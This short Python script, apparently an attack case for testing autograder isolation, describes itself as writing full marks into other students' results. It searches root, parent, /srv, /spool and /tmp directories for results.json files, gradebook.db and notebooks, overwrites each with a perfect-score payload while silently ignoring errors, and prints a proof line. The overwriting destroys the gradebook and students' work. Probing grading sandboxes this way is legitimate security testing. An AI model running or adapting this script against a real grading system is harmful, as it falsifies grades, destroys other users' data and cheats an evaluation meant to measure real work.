"""Writes full marks into other students' results, the gradebook and the spool.

victim: next
proof: ATTACK write-other-results: ran
"""

import glob
import json
import os

payload = json.dumps({"score": 7.0, "max_score": 7.0, "checks": []})
targets = []
for top in ("/", "..", "../..", "../../..", "/srv", "/spool", "/tmp"):
    targets += glob.glob(os.path.join(top, "*", "autograded", "*", "*", "results.json"))
    targets += glob.glob(os.path.join(top, "autograded", "*", "*", "results.json"))
    targets += glob.glob(os.path.join(top, "*", "gradebook.db")) + glob.glob(
        os.path.join(top, "gradebook.db")
    )
    targets += glob.glob(os.path.join(top, "*", "work", "*.ipynb"))
for path in targets:
    try:
        with open(path, "w") as handle:
            handle.write(payload)
    except OSError:
        pass
for path in ("/spool/results.json", "../results.json", "../../autograded/results.json"):
    try:
        with open(path, "w") as handle:
            handle.write(payload)
    except OSError:
        pass
print("ATTACK write-other-results: ran", flush=True)
